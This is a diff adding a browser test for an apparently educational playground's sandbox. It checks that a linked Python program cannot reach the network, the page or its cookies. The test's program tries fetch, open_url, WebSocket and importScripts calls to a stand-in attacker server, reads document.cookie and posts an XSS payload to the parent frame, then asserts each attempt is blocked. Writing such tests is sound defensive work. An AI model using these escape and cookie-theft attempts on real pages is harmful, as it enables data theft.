@@ -131,3 +131,44 @@ test('a built-in lesson in a link runs at once; the sandbox frame is opaque and 
   assert.deepEqual(frame, { sandbox: 'allow-scripts', csp: true });
   await ctx.close();
 });
+
+test('a linked Python program: js.fetch, pyodide.http, XHR, WebSocket, importScripts, IndexedDB and the page are out of reach', async () => {
+  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 } });
+  const page = await pageWithSecrets(ctx);
+  const program = `import js
+import pyodide.http
+
+URL = '${evil.url}py'
+attempts = [
+    ('js.fetch', lambda: js.fetch(URL)),
+    ('pyodide.http.open_url', lambda: pyodide.http.open_url(URL)),
+    ('js.XMLHttpRequest', lambda: js.XMLHttpRequest.new()),
+    ('js.WebSocket', lambda: js.WebSocket.new(URL.replace('http', 'ws'))),
+    ('js.importScripts', lambda: js.importScripts(URL)),
+    ('js.indexedDB', lambda: js.indexedDB.open('site-db')),
+    ('js.document.cookie', lambda: js.document.cookie),
+    ('js.parent.postMessage', lambda: js.parent.postMessage('<img src=x onerror=alert(1)>', '*')),
+]
+for name, attempt in attempts:
+    try:
+        attempt()
+        print(name, 'REACHED')
+    except Exception as e:
+        print(name, 'blocked:', e)
+`;
+  const before = evilRequests.length;
+  await page.goto(`${site.url}playground.html${encodeState({ program, semantics: 'pytorch-2', lesson: null, lang: 'python' })}`);
+  await page.getByRole('button', { name: 'Run this program' }).waitFor({ timeout: 10000 });
+  assert.equal(await consoleText(page), '', 'nothing ran before the click');
+  await page.getByRole('button', { name: 'Run this program' }).click();
+  await page.waitForFunction(() => /ran in|error/.test(document.getElementById('program-status').textContent), null, { timeout: 90000 });
+  await toEnd(page);
+  const out = await consoleText(page);
+  for (const name of ['js.fetch', 'pyodide.http.open_url', 'js.XMLHttpRequest', 'js.WebSocket', 'js.importScripts', 'js.indexedDB', 'js.document.cookie', 'js.parent.postMessage']) {
+    assert.match(out, new RegExp(`${name.replace(/\./g, '\\.')} blocked: .*not available: hookgrad runs programs in a sandbox`), `${name}: ${out}`);
+  }
+  assert.doesNotMatch(out, /REACHED|s3cret/);
+  await page.waitForTimeout(500);
+  assert.deepEqual(evilRequests.slice(before), [], 'no request reached the other server');
+  await ctx.close();
+});
